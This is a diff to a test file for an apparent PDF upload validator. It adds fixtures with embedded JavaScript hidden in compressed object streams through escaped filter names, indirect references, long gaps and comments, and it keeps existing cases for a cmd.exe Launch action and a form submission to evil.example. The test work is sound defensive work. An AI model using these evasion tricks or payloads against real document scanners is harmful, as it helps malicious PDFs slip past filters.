@@ -116,10 +116,12 @@ test.each([
   expect(errors).toEqual(['a.pdf: The PDF is damaged.'])
 })
 
+const deed = '3 0 <</S/JavaScript/JS(a)>>'
+
 test.each([
   ['JavaScript', pdfFile('3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n')],
   ['JavaScript by another spelling', pdfFile('3 0 obj<</S/J#61va#53cript/JS(a)>>endobj\n')],
-  ['JavaScript among packed objects', pdfFile(packObjects('3 0 <</S/JavaScript/JS(a)>>'))],
+  ['JavaScript among packed objects', pdfFile(packObjects(deed))],
   ['a program to start', pdfFile('3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n')],
   ['a further file', pdfFile('3 0 obj<</Type/EmbeddedFile/Length 0>>stream\n\nendstream endobj\n')],
   ['a form that is sent', pdfFile('3 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj\n')],
@@ -130,6 +132,22 @@ test.each([
   [
     'objects packed by a predictor',
     pdfFile(packObjects('3 0 <<>>', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
+  ],
+  ['objects packed by an escaped name', pdfFile(packObjects(deed, '/Filter/Fl#61teDecode'))],
+  ['objects packed as said elsewhere', pdfFile(packObjects(deed, '/Filter 9 0 R'))],
+  ['objects packed by two filters', pdfFile(packObjects(deed, '/Filter[/FlateDecode/Crypt]'))],
+  [
+    'objects behind a long gap',
+    pdfFile(packObjects(deed, `${' '.repeat(2000)}/Filter/FlateDecode`)),
+  ],
+  ['objects behind a comment', pdfFile(packObjects(deed, '%1 0 obj\n/Filter/FlateDecode'))],
+  [
+    'objects behind a text that looks like others',
+    pdfFile(packObjects(deed, `/X(${packObjects('3 0 <<>>').toString('latin1')} 8 0 obj)`)),
+  ],
+  [
+    'objects behind a gap before their beginning',
+    pdfFile(packObjects(deed, `/Filter/FlateDecode>>${' '.repeat(20)}stream\n`).subarray(0, -18)),
   ],
   ['objects that unpack to gigabytes', pdfFile(packObjects('0'.repeat(40 * 1024 * 1024)))],
   [
@@ -154,6 +172,10 @@ test('a PDF with packed objects and pages full of anything is kept', async () =>
   const body = pdfFile(
     Buffer.concat([
       packObjects('3 0 <</Type/Page/Parent 2 0 R>>'),
+      packObjects('4 0 <</Type/Page>>', ' /Filter [ /FlateDecode ] /Extends 7 0 R '),
+      Buffer.from(
+        '9 0 obj\r\n<< /Type /ObjStm /N 1 /First 4 >>\r\nstream\r\n5 0 <<>>\nendstream endobj\n',
+      ),
       Buffer.from(`8 0 obj<</Filter/FlateDecode/Length ${page.length}>>stream\r\n`),
       page,
       Buffer.from('\r\nendstream endobj\n'),
